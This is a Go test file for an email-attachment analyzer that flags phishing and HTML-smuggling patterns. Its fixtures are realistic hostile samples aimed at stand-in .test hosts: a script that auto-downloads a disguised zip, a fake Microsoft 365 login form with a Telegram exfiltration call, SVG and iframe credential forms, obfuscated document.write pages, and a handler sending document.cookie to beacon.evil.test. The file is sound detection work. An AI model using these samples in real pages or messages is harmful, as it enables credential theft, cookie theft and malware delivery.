package attachments

import (
	"encoding/base64"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/checkmail/checkmail/analysis/report"
)

// Samples written here in the styles seen in real attacks; hosts are
// under .test / .example.

var smuggling = `<html><body><script>
var b64 = "UEsDBBQAAAAIAAAAIQBNb3ZpZS5leGVNWgAA";
var bin = atob(b64); var arr = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) arr[i] = bin.charCodeAt(i);
var blob = new Blob([arr], {type: 'application/zip'});
var a = document.createElement('a'); a.href = window.URL.createObjectURL(blob);
a.download = 'Invoice_2291.zip'; document.body.appendChild(a); a.click();
</script></body></html>`

var smugglingIE = `<html><script>var blob=new Blob([d]);if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(blob,'doc.iso')}</script></html>`

var credForm = `<!DOCTYPE html><html><head><title>Microsoft 365</title>
<link rel="stylesheet" href="https://cdn.cdnhost.test/office.css">
<script src="https://code.jquery.test/jquery.min.js"></script></head>
<body><img src="https://aadcdn.logo.test/ms.png">
<form method="POST" action="https://collector.evil.test/next.php">
<input type="email" name="login"><input type="password" name="passwd"><button>Sign in</button></form>
<script>$.ajax({url:"https://api.telegram.org/bot123:AAA/sendMessage", type:"POST"});</script>
</body></html>`

var metaRefresh = `<html><head><meta http-equiv="Refresh" content="0; URL='https://redirect.evil.test/o365/?e=user@corp.test'"></head><body>Loading…</body></html>`

var locationJS = `<html><body onload="go()"><script>function go(){ window.location.href = "https://land.evil.test/secure"; }</script></body></html>`

var svgScript = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">
<script type="text/javascript"><![CDATA[ window.location.replace('https://svg.evil.test/#' + atob('dXNlckBjb3JwLnRlc3Q=')); ]]></script></svg>`

var svgForeign = `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml"><form action="//post.evil.test/x"><input type="password"/></form></body></foreignObject></svg>`

var iframeData = `<html><body><iframe src="data:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte(`<html><form action="https://inner.evil.test/p"><input type=password></form></html>`)) + `" width="100%"></iframe></body></html>`

var benign = `<!DOCTYPE html><html><head><title>Order confirmation</title><style>body{font-family:sans-serif}</style></head>
<body><h1>Thank you</h1><p>Your order 1234 has shipped. <a href="https://shop.example/orders/1234">Track it</a>.</p>
<p><a href="#top">Back to top</a> <a href="orders.html">Orders</a></p></body></html>`

func writeB64Page(page string) string {
	return `<html><script>document.write(atob("` + base64.StdEncoding.EncodeToString([]byte(page)) + `"));</script></html>`
}

func writeEscaped(page string) string {
	var b strings.Builder
	for _, c := range []byte(page) {
		b.WriteString("%" + strings.ToUpper(string("0123456789abcdef"[c>>4])+string("0123456789abcdef"[c&15])))
	}
	return `<script language="javascript">document.write(unescape('` + b.String() + `'));</script>`
}

func TestAnalyzeHTML(t *testing.T) {
	hiddenPage := strings.Repeat("<!-- padding for length -->", 6) + `<html><body><form action="https://hidden.evil.test/login.php" method=post><input type=password name=p></form></body></html>`
	tests := []struct {
		name  string
		page  string
		want  []report.Indicator
		urls  []FoundURL // must all be present
		hosts []string   // exact, in order
	}{
		{"smuggling", smuggling, []report.Indicator{report.IndHTMLSmuggling, report.IndHTMLScriptDecode, report.IndHTMLScript}, nil, nil},
		{"smuggling msSaveOrOpenBlob", smugglingIE, []report.Indicator{report.IndHTMLSmuggling, report.IndHTMLScript}, nil, nil},
		{"credential form", credForm,
			[]report.Indicator{report.IndHTMLFormExternal, report.IndHTMLForm, report.IndHTMLPasswordField, report.IndHTMLScriptFetch, report.IndHTMLScript, report.IndHTMLExternalResource},
			[]FoundURL{{"https://collector.evil.test/next.php", "collector.evil.test", report.URLFormAction}, {"https://code.jquery.test/jquery.min.js", "code.jquery.test", report.URLScript},
				{"https://api.telegram.org/bot123:AAA/sendMessage", "api.telegram.org", report.URLScript}},
			[]string{"cdn.cdnhost.test", "code.jquery.test", "aadcdn.logo.test", "collector.evil.test", "api.telegram.org"}},
		{"meta refresh", metaRefresh, []report.Indicator{report.IndHTMLRedirect},
			[]FoundURL{{"https://redirect.evil.test/o365/?e=user@corp.test", "redirect.evil.test", report.URLRedirect}}, []string{"redirect.evil.test"}},
		{"location in script", locationJS, []report.Indicator{report.IndHTMLRedirect, report.IndHTMLScript},
			[]FoundURL{{"https://land.evil.test/secure", "land.evil.test", report.URLRedirect}}, nil},
		{"svg script redirect", svgScript, []report.Indicator{report.IndHTMLRedirect, report.IndHTMLScriptDecode, report.IndHTMLScript},
			[]FoundURL{{"https://svg.evil.test/#", "svg.evil.test", report.URLRedirect}}, nil},
		{"svg foreignObject form", svgForeign, []report.Indicator{report.IndHTMLFormExternal, report.IndHTMLForm, report.IndHTMLPasswordField, report.IndHTMLScript},
			[]FoundURL{{"//post.evil.test/x", "post.evil.test", report.URLFormAction}}, nil},
		{"iframe data: page", iframeData,
			[]report.Indicator{report.IndHTMLFormExternal, report.IndHTMLForm, report.IndHTMLPasswordField, report.IndHTMLEmbeddedPage, report.IndHTMLDataURL, report.IndHTMLFrame},
			[]FoundURL{{"https://inner.evil.test/p", "inner.evil.test", report.URLFormAction}}, nil},
		{"document.write(atob(page))", writeB64Page(hiddenPage),
			[]report.Indicator{report.IndHTMLFormExternal, report.IndHTMLForm, report.IndHTMLPasswordField, report.IndHTMLEmbeddedPage, report.IndHTMLScriptDecode, report.IndHTMLScript},
			[]FoundURL{{"https://hidden.evil.test/login.php", "hidden.evil.test", report.URLFormAction}}, nil},
		{"document.write(unescape(page))", writeEscaped(hiddenPage),
			[]report.Indicator{report.IndHTMLFormExternal, report.IndHTMLForm, report.IndHTMLPasswordField, report.IndHTMLEmbeddedPage, report.IndHTMLScriptDecode, report.IndHTMLScript},
			nil, []string{"hidden.evil.test"}},
		{"huge encoded blob", `<script>var k="` + strings.Repeat("QmFzZTY0IGRhdGEgMTIz", 200) + `";</script>`,
			[]report.Indicator{report.IndHTMLObfuscated, report.IndHTMLScript}, nil, nil},
		{"event handler and javascript: link", `<img src=x onerror="fetch('https://beacon.evil.test/'+document.cookie)"><a href="javascript:void(0)">x</a>`,
			[]report.Indicator{report.IndHTMLScriptFetch, report.IndHTMLScript}, []FoundURL{{"https://beacon.evil.test/", "beacon.evil.test", report.URLScript}}, nil},
		{"data: download link", `<a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA" download="scan.exe">Download</a>`,
			[]report.Indicator{report.IndHTMLSmuggling}, nil, nil},
		{"benign order page", benign, nil, []FoundURL{{"https://shop.example/orders/1234", "shop.example", report.URLLink}}, []string{"shop.example"}},
		{"empty", "", nil, nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := AnalyzeHTML([]byte(tt.page))
			if !slices.Equal(r.Indicators, tt.want) {
				t.Errorf("indicators\n got %q\nwant %q", r.Indicators, tt.want)
			}
			for _, u := range tt.urls {
				if !slices.Contains(r.URLs, u) {
					t.Errorf("missing URL %+v in %+v", u, r.URLs)
				}
			}
			if tt.hosts != nil && !slices.Equal(r.Hosts, tt.hosts) {
				t.Errorf("hosts %q, want %q", r.Hosts, tt.hosts)
			}
		})
	}
}

func TestAnalyzeHTMLBounds(t *testing.T) {
	var b strings.Builder
	for i := range 500 {
		b.WriteString(`<a href="https://h` + strings.Repeat("x", i%7) + `.example/` + url.PathEscape(strings.Repeat("p", i)) + `">x</a>`)
	}
	r := AnalyzeHTML([]byte(b.String()))
	if len(r.URLs) != maxHTMLURLs || !r.Truncated {
		t.Errorf("urls %d truncated %v", len(r.URLs), r.Truncated)
	}
	// nested pages stop at maxNestDepth
	page := `<form action="https://deep.evil.test/"><input type=password></form>` + strings.Repeat(" ", 300)
	for range 5 {
		page = writeB64Page(page)
	}
	r = AnalyzeHTML([]byte(page))
	if r.Has(report.IndHTMLForm) || !r.Truncated || !r.Has(report.IndHTMLEmbeddedPage) {
		t.Errorf("deep nesting: %q truncated %v", r.Indicators, r.Truncated)
	}
	// token bound
	r = AnalyzeHTML([]byte(strings.Repeat("<b>", maxHTMLTokens+10)))
	if !r.Truncated {
		t.Error("token bound not hit")
	}
}

func TestInspectHTMLAttachment(t *testing.T) {
	a, d := InspectWith("Remittance.htm", "text/html", []byte(credForm), DefaultOptions())
	if a.Risk != RiskHigh {
		t.Errorf("risk %s", a.Risk)
	}
	for _, r := range []string{"html attachment", "html form posts to a web address", "html with password field"} {
		if !slices.Contains(a.RiskReasons, r) {
			t.Errorf("missing reason %q in %q", r, a.RiskReasons)
		}
	}
	if d.HTML == nil || !d.HTML.Has(report.IndHTMLFormExternal) {
		t.Fatalf("detail %+v", d.HTML)
	}
	if !slices.Contains(a.Indicators, report.IndHTMLFormExternal) {
		t.Errorf("indicators %q", a.Indicators)
	}
	// report URLs are defanged, detail URLs raw
	found := false
	for _, u := range a.URLs {
		if strings.Contains(u.URL, "://") && !strings.HasPrefix(u.URL, "hxxp") {
			t.Errorf("live URL in report: %q", u.URL)
		}
		if u.URL == "hxxps://collector[.]evil[.]test/next.php" && u.Role == report.URLFormAction && u.Host == "collector.evil.test" {
			found = true
		}
	}
	if !found {
		t.Errorf("form action not in report URLs: %+v", a.URLs)
	}
	if !slices.ContainsFunc(d.URLs, func(u FoundURL) bool { return u.URL == "https://collector.evil.test/next.php" }) {
		t.Errorf("raw URL missing: %+v", d.URLs)
	}
	// An SVG sent as image/svg+xml with a script.
	a = Inspect("logo.svg", "image/svg+xml", []byte(svgScript))
	if !slices.Contains(a.RiskReasons, "html redirects to a web address") || !slices.Contains(a.Indicators, report.IndHTMLRedirect) {
		t.Errorf("svg: %q %q", a.RiskReasons, a.Indicators)
	}
	// A PDF is not analyzed as HTML even when it mentions <form.
	a, d = InspectWith("x.pdf", "application/pdf", []byte("%PDF-1.4 <form action=https://x.test/>"), DefaultOptions())
	if d.HTML != nil || len(a.Indicators) != 0 {
		t.Errorf("pdf analyzed as html: %q", a.Indicators)
	}
}
